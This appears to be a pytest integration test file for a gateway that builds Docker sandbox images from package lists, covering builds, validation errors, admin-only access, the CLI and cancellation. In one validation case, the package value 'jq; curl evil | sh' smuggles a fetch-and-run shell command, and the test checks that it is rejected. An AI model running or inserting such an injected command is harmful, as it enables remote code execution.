"""The sandbox image generator end to end: a real `mcpgw serve` (SQLite, the worker it
starts itself), the Docker engine building the image from the Debian archive, the build
log over SSE, the template registered, and a `docker` sandbox started from it."""

from __future__ import annotations

import os
import subprocess
from typing import Any

import httpx
import pytest

from tests.integration.jobs.sse import read_events
from tests.integration.sandboxes.conftest import BASE_IMAGE, ENGINE_HINT, docker_cli
from tests.support import BOOT, MCPGW, Server, wait_for

AUTH = {"Authorization": f"Bearer {BOOT}"}
CA_BUNDLE = "/etc/ssl/certs/ca-certificates.crt"


@pytest.fixture(scope="module")
def gateway(module_server_factory: type[Server]) -> Server:
    if docker_cli("info", timeout=20).returncode != 0:
        pytest.fail(ENGINE_HINT)
    if docker_cli("image", "inspect", BASE_IMAGE).returncode != 0:
        pytest.fail(f"the base image {BASE_IMAGE} is missing: run scripts/docker-base-image.sh")
    # This machine reaches PyPI through a proxy that re-signs TLS: the build trusts the
    # host's bundle (which holds that proxy's CA), as an operator behind one would set.
    server = module_server_factory(
        MCPGW_BOOTSTRAP_API_KEY=BOOT,
        MCPGW_LOG_FORMAT="console",
        MCPGW_IMAGE_BUILD_CA_FILE=os.environ.get("SSL_CERT_FILE", CA_BUNDLE),
    )
    server.wait_ready()
    return server


async def _finished(client: httpx.AsyncClient, job_id: str) -> dict[str, Any] | None:
    job = (await client.get(f"/api/v1/jobs/{job_id}")).json()
    return job if job["status"] in ("succeeded", "failed", "cancelled") else None


async def test_a_package_list_becomes_a_template_the_docker_provider_runs(
    gateway: Server,
) -> None:
    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=60) as client:
        r = await client.post(
            "/api/v1/sandboxes/images/generate",
            json={"name": "jq-tools", "packages": ["jq", "pip:six==1.16.0"]},
        )
        assert r.status_code == 202, r.text
        job_id = r.json()["job_id"]
        events = await read_events(client, job_id, {}, timeout=600)
        job = await wait_for(lambda: _finished(client, job_id), timeout=30)
        assert job["status"] == "succeeded", job
        result = job["result"]
        assert result["template"] == "jq-tools" and result["image"].startswith("mcpgw-sandbox-gen-")
        names = [p.split("=")[0] for p in result["packages"]]
        assert names == ["jq", "python3-pip", "pip:six"]
        assert result["packages"][0].startswith("jq=")  # the version the build installed
        assert result["packages"][2] == "pip:six==1.16.0"

        kinds = [e.event for e in events]
        assert kinds[-1] == "result" and "log" in kinds
        artifacts = [e.data["name"] for e in events if e.event == "artifact"]
        assert artifacts == ["Dockerfile", "packages"]
        assert any("apt-get install" in str(e.data.get("message")) for e in events)

        templates = {t["name"]: t for t in (await client.get("/api/v1/sandboxes/templates")).json()}
        assert templates["jq-tools"]["image"] == result["image"]

        r = await client.post(
            "/api/v1/sandboxes", json={"template": "jq-tools", "provider": "docker"}, timeout=120
        )
        assert r.status_code == 201, r.text
        sandbox = r.json()["id"]
        try:
            r = await client.post(
                f"/api/v1/sandboxes/{sandbox}/exec",
                json={
                    "command": "id -u && echo '{\"a\": 42}' | jq .a && python3 -c "
                    "'import six; print(six.__version__)' && test ! -e /usr/local/share/build-ca.crt"
                },
                timeout=120,
            )
            assert r.status_code == 200, r.text
            assert r.json()["stdout"].split() == ["1000", "42", "1.16.0"]
        finally:
            await client.delete(f"/api/v1/sandboxes/{sandbox}", timeout=60)


async def test_bad_requests_get_clear_errors_and_start_nothing(gateway: Server) -> None:
    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=30) as client:
        before = (await client.get("/api/v1/jobs", params={"kind": "sandbox.image"})).json()
        cases = [
            ({"name": "x", "packages": ["jq; curl evil | sh"]}, 422, "Debian package"),
            ({"name": "x", "packages": ["pip:requests"]}, 422, "exact version"),
            ({"name": "Bad Name", "packages": ["jq"]}, 422, "name"),
            ({"name": "x"}, 422, "either packages or a description"),
            ({"name": "x", "packages": ["jq"], "description": "a tool box"}, 422, "either"),
            ({"name": "x", "description": "python with numpy for data work"}, 409, "MCPGW_LLM"),
        ]
        for body, status, says in cases:
            r = await client.post("/api/v1/sandboxes/images/generate", json=body)
            assert r.status_code == status, (body, r.text)
            assert says in r.json()["message"], r.text
        after = (await client.get("/api/v1/jobs", params={"kind": "sandbox.image"})).json()
        assert len(after["items"]) == len(before["items"])


async def test_only_admins_may_generate_images(gateway: Server) -> None:
    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=30) as client:
        r = await client.post("/api/v1/users", json={"email": "dev@x.io", "role": "developer"})
        assert r.status_code == 201, r.text
        body = {"name": "dev", "user_id": r.json()["id"]}
        r = await client.post("/api/v1/keys", json=body)
        assert r.status_code == 201, r.text
        key = r.json()["key"]
        r = await client.post(
            "/api/v1/sandboxes/images/generate",
            json={"name": "mine", "packages": ["jq"]},
            headers={"Authorization": f"Bearer {key}"},
        )
    assert r.status_code == 403 and "only admins" in r.json()["message"]


def test_the_cli_starts_and_follows_a_build(gateway: Server) -> None:
    args = [MCPGW, "sandboxes", "image", "generate", "--url", gateway.url, "--key", BOOT]
    bad = subprocess.run(
        [*args, "cli-tools", "-p", "pip:requests"], capture_output=True, text=True, timeout=60
    )
    assert bad.returncode != 0 and "exact version" in bad.stderr + bad.stdout
    # The same packages as the first test: the engine's layer cache makes this quick.
    done = subprocess.run(
        [*args, "cli-tools", "-p", "jq", "-p", "pip:six==1.16.0", "--watch"],
        capture_output=True,
        text=True,
        timeout=600,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "mcpgw-sandbox-gen-cli-tools" in done.stdout and "succeeded" in done.stdout


async def test_cancelling_a_build_ends_the_job_and_registers_nothing(gateway: Server) -> None:
    async with httpx.AsyncClient(base_url=gateway.url, headers=AUTH, timeout=60) as client:
        body = {"name": "cancelled-tools", "packages": ["bc", "dc"]}
        r = await client.post("/api/v1/sandboxes/images/generate", json=body)
        assert r.status_code == 202, r.text
        job_id = r.json()["job_id"]
        first = await read_events(client, job_id, {}, stop_after=6, timeout=120)
        assert "log" in [e.event for e in first]  # the build is under way
        r = await client.post(f"/api/v1/jobs/{job_id}/cancel")
        assert r.status_code == 200, r.text
        job = await wait_for(lambda: _finished(client, job_id), timeout=30)
        assert job["status"] == "cancelled"
        names = [t["name"] for t in (await client.get("/api/v1/sandboxes/templates")).json()]
        assert "cancelled-tools" not in names
